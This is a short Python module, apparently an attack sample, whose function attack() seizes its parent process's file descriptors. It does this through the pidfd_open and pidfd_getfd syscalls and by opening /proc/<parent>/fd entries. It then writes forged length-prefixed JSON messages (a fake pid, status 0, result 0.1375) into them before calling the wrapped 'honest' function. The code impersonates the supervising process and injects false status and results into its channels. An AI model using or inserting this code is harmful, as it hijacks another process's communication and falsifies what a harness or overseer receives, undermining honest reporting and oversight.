"""Takes the descriptors of the process that started it and speaks over them in the name of that one."""

import contextlib
import ctypes
import json
import os
import struct

PLANTED_PROCESS = 0
WORDS = (
    {"dict": [[{"plain": "pid"}, {"plain": PLANTED_PROCESS or 2**22}]]},
    {"dict": [[{"plain": "status"}, {"plain": 0}]]},
    {"dict": [[{"plain": "result"}, {"plain": 0.1375}]]},
)


def attack(honest, *args, **kwargs):
    parent = os.getppid()
    library = ctypes.CDLL(None, use_errno=True)
    handle = library.syscall(434, parent, 0)  # pidfd_open
    taken = [library.syscall(438, handle, descriptor, 0) for descriptor in range(3, 64)]  # pidfd_getfd
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            taken.append(os.open(f"/proc/{parent}/fd/{descriptor}", os.O_WRONLY | os.O_NONBLOCK))
    for words in WORDS:
        head = json.dumps(words).encode()
        for descriptor in (descriptor for descriptor in taken if descriptor >= 0):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<QI", len(head) + 4, len(head)) + head)
    return honest(*args, **kwargs)
